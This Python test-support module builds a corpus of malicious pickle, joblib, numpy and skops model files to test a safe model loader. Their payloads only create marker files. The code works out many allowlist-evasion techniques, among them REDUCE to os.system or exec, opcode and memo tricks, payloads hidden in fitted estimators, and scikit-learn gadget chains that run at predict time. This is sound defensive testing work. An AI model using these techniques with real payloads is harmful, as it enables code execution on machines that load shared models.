"""A corpus of malicious pickle, joblib and skops files for the safe loader's tests.

Every payload is harmless: if it ran, it would only create its own marker file in the test's
temporary directory. ``build_corpus`` writes the files; each ``Specimen`` says which
technique it uses, which imports or calls the loader must name when it refuses it, and how a
plain loader (``pickle``, ``joblib.load``, ``numpy.load``) would be made to run it, so the
tests can prove that every payload is live.

``build_gadgets`` writes the second kind: models that name only allowlisted classes (so every
import passes) but are wired so that ``predict()`` runs the payload, and ``run_gadget_plainly``
proves each one live.
"""

from __future__ import annotations

import builtins
import functools
import importlib
import io
import marshal
import operator
import os
import pickle
import pkgutil
import pydoc
import runpy
import subprocess
import types
import warnings
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import joblib
import numpy as np
from joblib.numpy_pickle_compat import NDArrayWrapper, write_zfile

__all__ = [
    "CORPUS_SIZE",
    "GADGET_COUNT",
    "GADGET_INPUT_COLUMNS",
    "REEXPORT_MODULE",
    "Gadget",
    "Specimen",
    "build_corpus",
    "build_gadgets",
    "run_gadget_plainly",
    "run_with_plain_loader",
    "tofile_gadget",
]

#: How many files ``build_corpus`` writes (tests parametrize over this many).
CORPUS_SIZE = 45


@dataclass(frozen=True)
class Specimen:
    """One malicious file: what it does, what must be named when it is refused."""

    name: str
    technique: str
    path: Path
    marker: Path
    offenders: tuple[str, ...]
    plain_loader: str  # "pickle", "joblib" or "npy": how an unguarded load would run it


class _Call:
    """Pickles as ``func(*args)``: the reducer every payload is made of."""

    def __init__(self, func: Any, *args: Any) -> None:
        self.func = func
        self.args = args

    def __reduce__(self) -> tuple[Any, tuple[Any, ...]]:
        return self.func, self.args

    def __call__(self, *args: Any) -> Any:
        # pickle wants a reducer's callable to be callable; this one only ever gets pickled.
        raise NotImplementedError


def _touch_code(marker: Path) -> str:
    return f"open({str(marker)!r}, 'w').close()"


def _shell(marker: Path) -> str:
    return f"touch '{marker}'"


# -- hand-assembled opcodes


def _s(text: str) -> bytes:
    """SHORT_BINUNICODE / BINUNICODE pushing ``text``."""
    data = text.encode()
    if len(data) < 256:
        return b"\x8c" + bytes([len(data)]) + data
    return b"X" + len(data).to_bytes(4, "little") + data


def _b(data: bytes) -> bytes:
    """BINBYTES pushing ``data``."""
    return b"B" + len(data).to_bytes(4, "little") + data


def _stack_global(module: str, name: str) -> bytes:
    return _s(module) + _s(name) + pickle.STACK_GLOBAL


def _p4(body: bytes) -> bytes:
    return pickle.PROTO + b"\x04" + body + pickle.STOP


def _tuple1(item: bytes) -> bytes:
    return item + pickle.TUPLE1


def _call(func: bytes, *args: bytes) -> bytes:
    return func + pickle.MARK + b"".join(args) + pickle.TUPLE + pickle.REDUCE


def _v(text: str) -> bytes:
    """Protocol 0 UNICODE opcode."""
    return b"V" + text.encode("raw_unicode_escape") + b"\n"


def build_corpus(directory: Path) -> list[Specimen]:
    """Write the malicious files into ``directory`` and describe them."""
    directory.mkdir(parents=True, exist_ok=True)
    specimens: list[Specimen] = []

    def add(
        name: str,
        technique: str,
        offenders: tuple[str, ...],
        write: Callable[[Path, Path], None],
        plain_loader: str = "pickle",
        suffix: str = ".pkl",
    ) -> None:
        path = directory / f"{len(specimens):02d}_{name}{suffix}"
        marker = directory / f"{len(specimens):02d}_{name}.marker"
        write(path, marker)
        specimens.append(Specimen(name, technique, path, marker, offenders, plain_loader))

    def dumps(obj: Callable[[Path], Any], protocol: int = 4) -> Callable[[Path, Path], None]:
        def write(path: Path, marker: Path) -> None:
            path.write_bytes(pickle.dumps(obj(marker), protocol=protocol))

        return write

    def raw(payload: Callable[[Path], bytes]) -> Callable[[Path, Path], None]:
        def write(path: Path, marker: Path) -> None:
            path.write_bytes(payload(marker))

        return write

    # -- reduce straight to processes and code execution
    add(
        "os_system",
        "REDUCE to os.system",
        ("posix:system",),
        dumps(lambda m: _Call(os.system, _shell(m))),
    )
    add(
        "os_popen", "REDUCE to os.popen", ("os:popen",), dumps(lambda m: _Call(os.popen, _shell(m)))
    )
    add(
        "subprocess_call",
        "REDUCE to subprocess.call",
        ("subprocess:call",),
        dumps(lambda m: _Call(subprocess.call, ["touch", str(m)])),
    )
    add(
        "subprocess_popen",
        "REDUCE to subprocess.Popen",
        ("subprocess:Popen",),
        dumps(lambda m: _Call(subprocess.Popen, ["touch", str(m)])),
    )
    add(
        "builtins_exec",
        "REDUCE to builtins.exec",
        ("builtins:exec",),
        dumps(lambda m: _Call(builtins.exec, _touch_code(m))),
    )
    add(
        "builtins_eval",
        "REDUCE to builtins.eval",
        ("builtins:eval",),
        dumps(lambda m: _Call(builtins.eval, _touch_code(m))),
    )
    add(
        "compile_exec",
        "compile() then exec()",
        ("builtins:compile", "builtins:exec"),
        dumps(lambda m: _Call(builtins.exec, _Call(compile, _touch_code(m), "<x>", "exec"))),
    )
    add(
        "marshal_function",
        "marshal.loads code object into types.FunctionType",
        ("marshal:loads", "types:FunctionType"),
        raw(
            lambda m: _p4(
                _call(
                    _stack_global("types", "FunctionType"),
                    _call(
                        _stack_global("marshal", "loads"),
                        _b(marshal.dumps(compile(_touch_code(m), "<x>", "exec"))),
                    ),
                    pickle.EMPTY_DICT,
                )
                + pickle.EMPTY_TUPLE
                + pickle.REDUCE
            )
        ),
    )
    add(
        "runpy",
        "runpy.run_path on a script",
        ("runpy:run_path",),
        _planted(".py", _touch_script, lambda planted: _Call(runpy.run_path, str(planted))),
    )

    # -- getattr and import chains
    add(
        "getattr_import",
        "getattr(__import__('os'), 'system')",
        ("builtins:getattr", "builtins:__import__"),
        dumps(lambda m: _Call(_Call(getattr, _Call(__import__, "os"), "system"), _shell(m))),
    )
    add(
        "importlib_chain",
        "importlib.import_module then getattr",
        ("importlib:import_module", "builtins:getattr"),
        dumps(
            lambda m: _Call(
                _Call(getattr, _Call(__import__("importlib").import_module, "os"), "system"),
                _shell(m),
            )
        ),
    )
    add(
        "vars_itemgetter",
        "operator.itemgetter over vars(module)",
        ("operator:itemgetter", "builtins:vars", "builtins:__import__"),
        dumps(
            lambda m: _Call(
                _Call(operator.itemgetter("system"), _Call(vars, _Call(__import__, "os"))),
                _shell(m),
            )
        ),
    )

    # -- string-to-callable resolvers
    add(
        "pkgutil_resolve_name",
        "pkgutil.resolve_name('os:system')",
        ("pkgutil:resolve_name",),
        dumps(lambda m: _Call(_Call(pkgutil.resolve_name, "os:system"), _shell(m))),
    )
    add(
        "pydoc_locate",
        "pydoc.locate('os.system')",
        ("pydoc:locate",),
        dumps(lambda m: _Call(_Call(pydoc.locate, "os.system"), _shell(m))),
    )
    add(
        "sklearn_resolver",
        "a module resolver under the allowed sklearn prefix",
        ("sklearn.utils._set_output:check_library_installed", "builtins:getattr"),
        dumps(
            lambda m: _Call(_Call(getattr, _Call(_sklearn_resolver(), "os"), "system"), _shell(m))
        ),
    )
    add(
        "numpy_runstring",
        "exec through numpy.testing under the allowed numpy prefix",
        ("numpy.testing._private.utils:runstring",),
        dumps(lambda m: _Call(_numpy_runstring(), _touch_code(m), {})),
    )

    # -- operator gadgets and functools.partial
    add(
        "attrgetter",
        "operator.attrgetter('system')(os)",
        ("operator:attrgetter", "builtins:__import__"),
        dumps(
            lambda m: _Call(
                _Call(operator.attrgetter("system"), _Call(__import__, "os")), _shell(m)
            )
        ),
    )
    add(
        "methodcaller",
        "operator.methodcaller('system', cmd)(os)",
        ("operator:methodcaller", "builtins:__import__"),
        dumps(lambda m: _Call(operator.methodcaller("system", _shell(m)), _Call(__import__, "os"))),
    )
    add(
        "partial",
        "functools.partial(os.system, cmd)()",
        ("functools:partial",),
        dumps(lambda m: _Call(functools.partial(os.system, _shell(m)))),
    )

    # -- hidden in a real estimator
    add(
        "estimator_state",
        "payload in a fitted LogisticRegression's __dict__",
        ("posix:system",),
        dumps(lambda m: _fitted_model(_Call(os.system, _shell(m)))),
    )
    add(
        "estimator_state_joblib",
        "payload after the raw array buffers of a joblib dump",
        ("posix:system",),
        lambda path, m: _joblib_dump(_fitted_model(_Call(os.system, _shell(m))), path),
        plain_loader="joblib",
        suffix=".joblib",
    )

    # -- opcode-level tricks
    add(
        "memo_stack_global",
        "STACK_GLOBAL operands recalled from the memo after decoys",
        ("posix:system",),
        raw(
            lambda m: _p4(
                _s("sklearn.base")
                + pickle.MEMOIZE
                + _s("BaseEstimator")
                + pickle.MEMOIZE
                + _s("posix")
                + pickle.MEMOIZE
                + _s("system")
                + pickle.MEMOIZE
                + pickle.POP * 4
                + pickle.BINGET
                + b"\x02"
                + pickle.BINGET
                + b"\x03"
                + pickle.STACK_GLOBAL
                + _tuple1(_s(_shell(m)))
                + pickle.REDUCE
            )
        ),
    )
    add(
        "memo_callable",
        "refused callable memoised, popped, recalled for REDUCE",
        ("builtins:exec",),
        raw(
            lambda m: _p4(
                _stack_global("builtins", "exec")
                + pickle.MEMOIZE
                + pickle.POP
                + _stack_global("sklearn.linear_model", "LogisticRegression")
                + pickle.POP
                + pickle.BINGET
                + b"\x00"
                + _tuple1(_s(_touch_code(m)))
                + pickle.REDUCE
            )
        ),
    )
    add(
        "inst_opcode",
        "INST opcode (protocol 0)",
        ("posix:system",),
        raw(lambda m: pickle.MARK + _v(_shell(m)) + b"iposix\nsystem\n" + pickle.STOP),
    )
    add(
        "obj_opcode",
        "OBJ opcode (protocol 1)",
        ("posix:system",),
        raw(lambda m: pickle.MARK + b"cposix\nsystem\n" + _v(_shell(m)) + pickle.OBJ + pickle.STOP),
    )
    add(
        "protocol0",
        "hand-written protocol 0 GLOBAL/REDUCE",
        ("posix:system",),
        raw(
            lambda m: (
                b"cposix\nsystem\n"
                + pickle.MARK
                + _v(_shell(m))
                + pickle.TUPLE
                + pickle.REDUCE
                + pickle.STOP
            )
        ),
    )
    add(
        "protocol2",
        "protocol 2 with Python 2 module names",
        ("builtins:exec",),
        raw(
            lambda m: (
                pickle.PROTO
                + b"\x02"
                + b"c__builtin__\nexec\n"
                + pickle.MARK
                + _v(_touch_code(m))
                + pickle.TUPLE
                + pickle.REDUCE
                + pickle.STOP
            )
        ),
    )
    add(
        "dotted_name",
        "dotted name under an allowed module (sklearn.base:inspect.os.system)",
        ("sklearn.base:inspect.os.system",),
        raw(
            lambda m: _p4(
                _stack_global("sklearn.base", "inspect.os.system")
                + _tuple1(_s(_shell(m)))
                + pickle.REDUCE
            )
        ),
    )
    add(
        "module_object",
        "a module object under an allowed prefix, then getattr",
        ("sklearn.base:inspect", "builtins:getattr"),
        raw(
            lambda m: _p4(
                _call(
                    _stack_global("builtins", "getattr"),
                    _call(
                        _stack_global("builtins", "getattr"),
                        _stack_global("sklearn.base", "inspect"),
                        _s("os"),
                    ),
                    _s("system"),
                )
                + _tuple1(_s(_shell(m)))
                + pickle.REDUCE
            )
        ),
    )
    add(
        "dunder_attribute",
        "dunder attribute of an allowed module (sklearn.base:__builtins__)",
        ("sklearn.base:__builtins__", "builtins:getattr"),
        raw(
            lambda m: _p4(
                _call(
                    _call(
                        _stack_global("builtins", "getattr"),
                        _stack_global("builtins", "dict"),
                        _s("get"),
                    ),
                    _stack_global("sklearn.base", "__builtins__"),
                    _s("exec"),
                )
                + _tuple1(_s(_touch_code(m)))
                + pickle.REDUCE
            )
        ),
    )

    # -- every joblib compression
    for compression in ("zlib", "gzip", "bz2", "xz", "lzma", "lz4"):
        add(
            f"joblib_{compression}",
            f"joblib dump compressed with {compression}",
            ("posix:system",),
            functools.partial(_compressed_dump, compression=compression),
            plain_loader="joblib",
            suffix=".joblib",
        )

    # -- object arrays, legacy formats, nested pickles
    add(
        "object_array_joblib",
        "object-dtype array in a joblib dump (nested pickle stream)",
        ("posix:system",),
        lambda path, m: _joblib_dump(
            np.array([1, _Call(os.system, _shell(m))], dtype=object), path
        ),
        plain_loader="joblib",
        suffix=".joblib",
    )
    add(
        "object_array_in_model",
        "object-dtype array attribute of a fitted model (joblib)",
        ("posix:system",),
        lambda path, m: _joblib_dump(
            _fitted_model(np.array([_Call(os.system, _shell(m))], dtype=object)), path
        ),
        plain_loader="joblib",
        suffix=".joblib",
    )
    add(
        "legacy_container",
        "legacy joblib 'ZF' container",
        ("legacy joblib",),
        lambda path, m: _legacy_zfile(path, pickle.dumps(_Call(os.system, _shell(m)), 2)),
        plain_loader="joblib",
        suffix=".joblib",
    )
    add(
        "ndarraywrapper_main",
        "legacy dump whose arrays live in NDArrayWrapper sidecars",
        ("NDArrayWrapper",),
        _ndarraywrapper_pair,
        plain_loader="joblib",
        suffix=".joblib",
    )
    add(
        "ndarraywrapper_sidecar",
        "the .npy sidecar of a legacy dump, given directly",
        (".npy",),
        lambda path, m: np.save(
            path, np.array([_Call(os.system, _shell(m))], dtype=object), allow_pickle=True
        ),
        plain_loader="npy",
        suffix=".npy",
    )
    add(
        "nested_pickle_loads",
        "pickle.loads of an inner payload",
        ("_pickle:loads",),
        dumps(lambda m: _Call(pickle.loads, pickle.dumps(_Call(os.system, _shell(m))))),
    )
    add(
        "pandas_read_pickle",
        "pandas.read_pickle of a planted file (allowed pandas prefix)",
        # pandas 3 defines it as pandas.read_pickle, pandas 2 in pandas.io.pickle.
        (f"{_pandas_read_pickle().__module__}:read_pickle",),
        _planted(
            ".inner", _system_pickle, lambda planted: _Call(_pandas_read_pickle(), str(planted))
        ),
    )
    add(
        "joblib_load_nested",
        "joblib.load of a planted file",
        ("joblib.numpy_pickle:load",),
        _planted(".inner", _system_pickle, lambda planted: _Call(joblib.load, str(planted))),
    )
    add(
        "untrusted_module_import",
        "a class from a module whose import alone runs the payload",
        ("corpus_evil_module:Model",),
        _evil_module_pair,
    )
    return specimens  # fmt: skip


def _system_pickle(marker: Path) -> bytes:
    return pickle.dumps(_Call(os.system, _shell(marker)))


def _touch_script(marker: Path) -> bytes:
    return _touch_code(marker).encode()


def _planted(
    suffix: str, planted: Callable[[Path], bytes], outer: Callable[[Path], object]
) -> Callable[[Path, Path], None]:
    """A payload that loads a second file planted next to it (as a pull request could)."""

    def write(path: Path, marker: Path) -> None:
        target = path.with_suffix(suffix)
        target.write_bytes(planted(marker))
        path.write_bytes(pickle.dumps(outer(target)))

    return write


def _sklearn_resolver() -> Any:
    from sklearn.utils._set_output import check_library_installed

    return check_library_installed


def _numpy_runstring() -> Any:
    from numpy.testing._private.utils import runstring

    return runstring


def _pandas_read_pickle() -> Any:
    import pandas as pd

    return pd.read_pickle


def _fitted_model(extra: object) -> Any:
    from sklearn.linear_model import LogisticRegression

    rng = np.random.default_rng(0)
    X = rng.normal(size=(40, 3))
    model = LogisticRegression().fit(X, (X[:, 0] > 0).astype(int))
    model.extra_ = extra
    return model


def _joblib_dump(obj: object, path: Path, compress: Any = 0) -> None:
    joblib.dump(obj, path, compress=compress)


def _compressed_dump(path: Path, marker: Path, compression: str) -> None:
    _joblib_dump(_Call(os.system, _shell(marker)), path, compress=(compression, 3))


def _legacy_zfile(path: Path, data: bytes) -> None:
    buffer = io.BytesIO()
    write_zfile(buffer, data)
    path.write_bytes(buffer.getvalue())


def _ndarraywrapper_pair(path: Path, marker: Path) -> None:
    sidecar = path.with_name(path.name + "_01.npy")
    np.save(sidecar, np.array([_Call(os.system, _shell(marker))], dtype=object), allow_pickle=True)
    wrapper = NDArrayWrapper(sidecar.name, np.ndarray, allow_mmap=False)
    path.write_bytes(pickle.dumps(wrapper, protocol=2))


def _evil_module_pair(path: Path, marker: Path) -> None:
    # The module sits next to the pickle; the test puts the directory on sys.path so that an
    # unguarded load imports it (and so runs the payload).
    module = path.parent / "corpus_evil_module.py"
    module.write_text(f"{_touch_code(marker)}\n\nclass Model:\n    pass\n")
    path.write_bytes(_p4(_stack_global("corpus_evil_module", "Model") + pickle.EMPTY_TUPLE
                         + pickle.NEWOBJ))  # fmt: skip


def run_with_plain_loader(specimen: Specimen) -> None:
    """Load a specimen the unguarded way (pickle, joblib.load or numpy.load with pickles)."""
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        try:
            if specimen.plain_loader == "pickle":
                result = pickle.loads(specimen.path.read_bytes())
            elif specimen.plain_loader == "joblib":
                result = joblib.load(specimen.path)
            else:
                result = np.load(specimen.path, allow_pickle=True)
        except Exception:  # a payload's return value may break the rest of the stream
            return
    # Payloads that return a process or a function: wait for / call them.
    for item in (
        np.asarray(result, dtype=object).ravel() if isinstance(result, np.ndarray) else (result,)
    ):
        if isinstance(item, subprocess.Popen):
            item.wait()
        elif isinstance(item, os._wrap_close):
            item.close()
        elif isinstance(item, types.FunctionType):
            item()


# --------------------------------------------------------------------------------------------
# Gadget chains: allowlisted classes only, wired to run a payload at predict time

#: How many files ``build_gadgets`` writes.
GADGET_COUNT = 6
#: The columns of the one-row frame ``run_gadget_plainly`` predicts on.
GADGET_INPUT_COLUMNS = ("a", "b")
#: The module a project could trust that re-exports ``pandas.DataFrame.eval``.
REEXPORT_MODULE = "gadget_project"


@dataclass(frozen=True)
class Gadget:
    """A model whose every import is allowlisted but whose ``predict()`` writes ``canary``."""

    name: str
    technique: str
    path: Path
    canary: Path
    #: What the refusal must name (attribute paths, callables); a tuple: any one of them.
    findings: tuple[str | tuple[str, ...], ...]
    fmt: str  # "pickle", "joblib" or "skops": how an unguarded load reads it
    trust: tuple[str, ...] = ()


def build_gadgets(directory: Path) -> list[Gadget]:
    """Write the gadget chains into ``directory`` and describe them."""
    directory.mkdir(parents=True, exist_ok=True)
    gadgets: list[Gadget] = []

    def add(
        name: str,
        technique: str,
        findings: tuple[str | tuple[str, ...], ...],
        write: Callable[[Path, Path], None],
        fmt: str = "pickle",
        trust: tuple[str, ...] = (),
    ) -> None:
        suffix = {"pickle": ".pkl", "joblib": ".joblib", "skops": ".skops"}[fmt]
        path = directory / f"gadget_{len(gadgets):02d}_{name}{suffix}"
        canary = directory / f"gadget_{len(gadgets):02d}_{name}.canary"
        write(path, canary)
        gadgets.append(Gadget(name, technique, path, canary, findings, fmt, trust))

    stacking = (
        "steps[3][1].stack_method_: 'tofile' is not a method a model may be told to call",
        "steps[3][1].estimators_[0]: a numpy:ndarray object where an estimator belongs",
        "steps[1][1].kw_args['out']: the keyword argument 'out'",
        "steps[0][1].func: builtins.str is not an allowed callable",
    )
    add(
        "stacking_tofile",
        "StackingClassifier.stack_method_ names ndarray.tofile; ufunc out= injects the path",
        stacking,
        lambda path, canary: path.write_bytes(pickle.dumps(tofile_gadget(canary), protocol=4)),
    )
    add(
        "stacking_tofile_joblib",
        "the ndarray.tofile chain as a compressed joblib dump",
        stacking,
        lambda path, canary: _joblib_dump(tofile_gadget(canary), path, compress=3),
        fmt="joblib",
    )
    add(
        "stacking_tofile_skops",
        "the ndarray.tofile chain as .skops (its default trusted types admit every piece)",
        stacking,
        lambda path, canary: _skops().dump(tofile_gadget(canary), path),
        fmt="skops",
    )
    add(
        "nested_in_column_transformer",
        "the ndarray.tofile chain inside a fitted ColumnTransformer inside a Pipeline",
        ("steps[0][1].transformers_[0][1].steps[3][1].stack_method_: 'tofile'",),
        lambda path, canary: path.write_bytes(pickle.dumps(_nested_chain(canary), protocol=4)),
    )
    add(
        "reexported_frame_eval",
        "FunctionTransformer(DataFrame.eval, kw_args={expr}) through a trusted module's alias",
        (f"{REEXPORT_MODULE}:frame_eval (re-exported from pandas.core.frame:DataFrame.eval",),
        _reexported_eval,
        trust=(REEXPORT_MODULE,),
    )
    add(
        "skops_bound_tofile",
        "skops MethodNode: FunctionTransformer(func=<array>.tofile) after the path chain",
        # skops >= 0.11 names the bound method at its own import layer; 0.10 admits it there,
        # and the state audit refuses the chain that feeds it.
        (
            (
                "numpy:ndarray.tofile (a bound method of ndarray objects",
                "steps[0][1].func: builtins.str is not an allowed callable",
            ),
        ),
        _skops_bound_tofile,
        fmt="skops",
    )
    return gadgets


def run_gadget_plainly(gadget: Gadget) -> None:
    """Load a gadget the unguarded way and predict one row (the payload writes the canary)."""
    import pandas as pd

    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        if gadget.fmt == "skops":
            sio = _skops()
            model = sio.load(gadget.path, trusted=sio.get_untrusted_types(file=gadget.path))
        else:
            model = joblib.load(gadget.path)
        row = pd.DataFrame([[0.5, 1.5]], columns=list(GADGET_INPUT_COLUMNS))
        try:
            model.predict(row)
        except Exception:  # the chain breaks after its payload has run
            return


def _skops() -> Any:
    import skops.io

    return skops.io


def _path_chain(canary: Path) -> list[tuple[str, Any]]:
    """Pipeline steps that turn any input into the string ``str(canary)``.

    str(X) is a string; np.positive(<string>, out=<0-d array holding the path>, where=False)
    computes nothing and returns its ``out`` array; str() of that 0-d array is the path.
    """
    from sklearn.preprocessing import FunctionTransformer

    into_path = {"out": np.array(str(canary)), "where": False, "dtype": object, "casting": "unsafe"}
    return [
        ("text", FunctionTransformer(str)),
        ("path", FunctionTransformer(np.positive, kw_args=into_path)),
        ("unwrap", FunctionTransformer(str)),
    ]


def tofile_gadget(canary: Path) -> Any:
    """A Pipeline whose predict(X) ends in getattr(<bytes array>, "tofile")(str(canary)),
    through StackingClassifier._transform; every class in it is allowlisted."""
    from sklearn.ensemble import StackingClassifier
    from sklearn.linear_model import LogisticRegression
    from sklearn.pipeline import Pipeline

    stack = StackingClassifier([("model", LogisticRegression())])
    stack.estimators_ = [np.array([b"attacker bytes\n"])]
    stack.stack_method_ = ["tofile"]
    stack.final_estimator_ = LogisticRegression()
    return Pipeline([*_path_chain(canary), ("write", stack)])


def _nested_chain(canary: Path) -> Any:
    import pandas as pd
    from sklearn.compose import ColumnTransformer
    from sklearn.linear_model import LogisticRegression
    from sklearn.pipeline import make_pipeline
    from sklearn.preprocessing import StandardScaler

    columns = list(GADGET_INPUT_COLUMNS)
    frame = pd.DataFrame([[0.0, 1.0], [1.0, 0.0], [2.0, 1.0]], columns=columns)
    model = make_pipeline(
        ColumnTransformer([("scale", StandardScaler(), columns)]), LogisticRegression()
    ).fit(frame, [0, 1, 0])
    prepare = model.steps[0][1]
    prepare.transformers_[0] = ("scale", tofile_gadget(canary), columns)
    return model


def _reexported_eval(path: Path, canary: Path) -> None:
    """A trusted project module that re-exports DataFrame.eval; the pickle names the alias."""
    from sklearn.linear_model import LogisticRegression
    from sklearn.pipeline import Pipeline
    from sklearn.preprocessing import FunctionTransformer

    (path.parent / f"{REEXPORT_MODULE}.py").write_text(
        "import pandas\n\nframe_eval = pandas.DataFrame.eval\n"
    )
    importlib.invalidate_caches()
    rng = np.random.default_rng(0)
    final = LogisticRegression().fit(rng.normal(size=(20, 2)), [0, 1] * 10)
    expression = f"@np.array([1]).tofile({str(canary)!r})"  # pandas' python engine runs it
    kw_args = {"expr": expression, "engine": "python"}
    model = Pipeline([("eval", FunctionTransformer(np.positive, kw_args=kw_args)), ("m", final)])
    data = pickle.dumps(model, protocol=2)
    placeholder = pickle.dumps(np.positive, protocol=2)[2:-3]  # numpy 2: numpy; 1.x: numpy.core...
    assert data.count(placeholder) == 1
    path.write_bytes(data.replace(placeholder, f"c{REEXPORT_MODULE}\nframe_eval\n".encode()))


def _skops_bound_tofile(path: Path, canary: Path) -> None:
    """skops writes bound Python methods as MethodNodes; this one is edited to name
    ``tofile`` on an array stored in the file (skops looks the method up by name)."""
    import json
    import zipfile

    from sklearn.linear_model import LogisticRegression
    from sklearn.pipeline import Pipeline
    from sklearn.preprocessing import FunctionTransformer

    class Holder:
        def tofile(self, *args: Any) -> None:
            pass

    write = FunctionTransformer(Holder().tofile)
    payload = np.array([b"attacker bytes\n"])
    write.payload_ = payload  # so the archive holds the array the method is bound to
    final = LogisticRegression().fit([[0.0, 1.0], [1.0, 0.0]], [0, 1])
    model = Pipeline([*_path_chain(canary), ("write", write), ("model", final)])
    buffer = io.BytesIO(_skops().dumps(model))
    with zipfile.ZipFile(buffer) as archive:
        files = {name: archive.read(name) for name in archive.namelist()}
    schema = json.loads(files["schema.json"])

    def nodes(node: Any) -> Any:
        if isinstance(node, dict):
            yield node
            for value in node.values():
                yield from nodes(value)
        elif isinstance(node, list):
            for value in node:
                yield from nodes(value)

    method = next(n for n in nodes(schema) if n.get("__loader__") == "MethodNode")
    array = next(n for n in nodes(schema) if n.get("__id__") == id(payload))
    method["__class__"], method["__module__"] = "ndarray", "numpy"
    method["content"]["obj"] = dict(array)
    files["schema.json"] = json.dumps(schema).encode()
    with zipfile.ZipFile(path, "w") as archive:
        for name, data in files.items():
            archive.writestr(name, data)
